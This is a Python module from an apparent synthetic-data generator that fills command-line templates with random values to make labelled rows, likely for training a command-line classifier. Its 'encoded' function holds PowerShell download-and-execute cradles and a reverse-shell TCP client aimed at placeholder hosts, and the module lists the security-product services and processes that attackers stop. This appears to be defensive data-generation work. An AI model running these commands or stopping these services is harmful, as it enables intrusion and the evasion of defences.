"""Values of the slots in command line templates: those of :mod:`cmdline_values`, and Unix, cloud and credential values."""

from __future__ import annotations

import base64
import random
import string
from collections.abc import Callable, Iterable

from tools.synth.cmdline_values import SLOTS as WINDOWS_SLOTS
from tools.synth.cmdline_values import file_stem, linux_folder, version
from tools.synth.templates import fill, groups, lines
from tools.synth.words import syllables, word

Row = tuple[str, str, str]

_EXTENSIONS = ("txt", "log", "conf", "py", "sh", "js", "json", "yml", "md", "csv", "xml", "c", "java", "html", "sql", "jpg", "go", "tf")
_SERVICES: tuple[str, ...] = (
    "nginx",
    "apache2",
    "httpd",
    "mysql",
    "postgresql",
    "redis",
    "docker",
    "ssh",
    "sshd",
    "cron",
    "grafana-server",
    "mongod",
)
_SERVICES += ("rabbitmq-server", "php8.1-fpm", "gunicorn", "haproxy", "bind9", "postfix", "NetworkManager", "zeek", "suricata")
_PACKAGES: tuple[str, ...] = (
    "git",
    "curl",
    "jq",
    "build-essential",
    "vim",
    "htop",
    "tmux",
    "unzip",
    "ca-certificates",
    "python3-pip",
    "nodejs",
    "cmake",
)
_PACKAGES += ("libssl-dev", "openjdk-17-jdk", "ffmpeg", "postgresql-client", "gnupg", "nginx", "shellcheck", "ripgrep", "pkg-config")
_PYTHON = ("requests", "numpy", "pandas", "flask", "django", "pytest", "black", "torch", "scikit-learn", "fastapi", "boto3", "ansible")
_NODE = ("typescript", "eslint", "prettier", "webpack", "jest", "vite", "react", "@types/node", "husky", "lerna", "cypress")
_IMAGES = (
    "nginx",
    "alpine",
    "ubuntu",
    "debian",
    "python",
    "node",
    "postgres",
    "redis",
    "golang",
    "mariadb",
    "busybox",
    "rust",
    "grafana/grafana",
)
_TAGS = ("latest", "alpine", "22.04", "3.11-slim", "16", "bookworm", "1.27", "lts", "stable")
_REGIONS = ("us-east-1", "us-west-2", "eu-west-1", "eu-central-1", "ap-southeast-1", "us-central1", "europe-west1", "asia-east1")

# Products whose processes and services attackers look for and stop.
ENDPOINT = ("CrowdStrike", "SentinelOne", "CarbonBlack", "Sophos", "Symantec", "McAfee", "Trend", "ESET", "Kaspersky", "Defender")
_DEFENCE_SERVICES = (
    "CSFalconService",
    "SentinelAgent",
    "CbDefense",
    "SAVService",
    "SepMasterService",
    "McShield",
    "ekrn",
    "AVP",
    "ntrtscan",
)
_DEFENCE_PROCESSES: tuple[str, ...] = (
    "MsMpEng.exe",
    "SentinelAgent.exe",
    "CSFalconService.exe",
    "cb.exe",
    "SophosUI.exe",
    "ccSvcHst.exe",
    "mcshield.exe",
)
_DEFENCE_PROCESSES += ("ekrn.exe", "avp.exe", "CylanceSvc.exe", "xagt.exe", "Sysmon64.exe", "bdagent.exe", "mbam.exe", "AvastSvc.exe")


def _digits(alphabet: str, count: int) -> Callable[[random.Random], str]:
    return lambda rng: "".join(rng.choice(alphabet) for _ in range(count))


def _choice(values: tuple[str, ...] | list[str]) -> Callable[[random.Random], str]:
    return lambda rng: rng.choice(values)


def password(rng: random.Random) -> str:
    """Draw a password as people choose them."""
    digits = rng.choice((1, 12, 123, 2023, 2024, rng.randint(1, 9999)))
    return f"{rng.choice((str.capitalize, str))(word(rng))}{digits}{rng.choice(('', '!', '@', '#', '$'))}"


def encoded(rng: random.Random) -> str:
    """Draw base64 of random bytes, or of a short UTF-16 text: words, or PowerShell that loads more."""
    roll = rng.random()
    if roll < 0.6:
        host = f"{rng.choice(('198.51.100', '203.0.113', '10.10.14'))}.{rng.randint(1, 254)}"
        forms = (
            f"IEX(New-Object Net.WebClient).DownloadString('http://{host}/{word(rng)}')",
            f"$client = New-Object System.Net.Sockets.TCPClient('{host}',{rng.randint(80, 9999)});$stream = $client.GetStream()",
            f"iwr http://{host}/{word(rng)}.ps1 | iex",
            f"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{word(rng)}'));IEX (New-Object IO.StreamReader($s)).ReadToEnd()",
            f"Start-Process {word(rng)}.exe -WindowStyle Hidden",
        )
        text = rng.choice(forms)
        return base64.b64encode(text[: rng.randint(6, len(text))].encode("utf-16-le")).decode()
    if roll < 0.8:
        return base64.b64encode(rng.randbytes(rng.randint(12, 90))).decode()
    return base64.b64encode(" ".join(word(rng) for _ in range(rng.randint(2, 8))).encode("utf-16-le")).decode()


SLOTS: dict[str, Callable[[random.Random], str]] = WINDOWS_SLOTS | {
    "HEX10": _digits(string.digits + "ABCDEF", 10),
    "WORD": lambda rng: rng.choice((word(rng).upper(), f"{word(rng)}_{word(rng)}".upper())),
    "av": _choice(ENDPOINT),
    "avproc": _choice(_DEFENCE_PROCESSES),
    "avsvc": _choice(_DEFENCE_SERVICES),
    "b64": encoded,
    "edr": lambda rng: rng.choice(
        ("falcon", "sentinel", "carbon", "cbagent", "wazuh", "osquery", "mdatp", "sophos", "auditd", "clamd", "ossec")
    ),
    "ext": _choice(_EXTENSIONS),
    "foreign": lambda rng: rng.choice(lines("foreign_phrases.txt")),
    "hash": _digits("0123456789abcdef", 32),
    "hash22": _digits(string.ascii_letters + string.digits + "./", 22),
    "hex16": lambda rng: _digits("0123456789abcdef", rng.choice((8, 17, 17)))(rng),
    "hex5": _digits(string.ascii_lowercase + string.digits, 5),
    "hex6": _digits("0123456789abcdef", 6),
    "hex64": _digits("0123456789abcdef", 64),
    "hex7": lambda rng: _digits("0123456789abcdef", rng.randint(7, 10))(rng),
    "img": _choice(_IMAGES),
    "ldir": linux_folder,
    "lfile": lambda rng: f"{linux_folder(rng)}/{file_stem(rng)}.{rng.choice(_EXTENSIONS)}",
    "npmpkg": _choice(_NODE),
    "pass": password,
    "pkg": _choice(_PACKAGES),
    "pypkg": _choice(_PYTHON),
    "region": _choice(_REGIONS),
    "sid": lambda rng: f"S-1-5-21-{rng.randint(10**8, 4 * 10**9)}-{rng.randint(10**8, 4 * 10**9)}-{rng.randint(10**8, 4 * 10**9)}",
    "svc": _choice(_SERVICES),
    "tag": _choice(_TAGS),
    "tldrtool": lambda rng: rng.choice(lines("command_line_tools.txt")) if rng.random() < 0.8 else syllables(rng, 2),
    "version": version,
}


def _repeated() -> dict[str, Callable[[random.Random], str]]:
    """Slots that give one value throughout a line, as lines of several steps do."""
    kept: dict[str, str] = {}

    def once(name: str, make: Callable[[random.Random], str]) -> Callable[[random.Random], str]:
        return lambda rng: kept.setdefault(name, make(rng))

    return {name: once(name, make) for name, make in SLOTS.items()}


def draw(rng: random.Random, n: int, files: Iterable[str], label: str, prefix: str = "") -> list[Row]:
    """Make ``n`` rows ``(text, label, prefix + group)`` from the templates of some files, each template equally often."""
    pool = [
        (group, template, weight) for file in files for group, both in groups(file).items() for template, weight in zip(*both, strict=True)
    ]
    chosen = rng.choices(pool, [weight for *_, weight in pool], k=n)
    texts = [fill(rng, template, _repeated() if rng.random() < 0.5 else SLOTS) for _, template, _ in chosen]
    return [(text.strip(), label, prefix + group) for text, (group, _, _) in zip(texts, chosen, strict=True)]
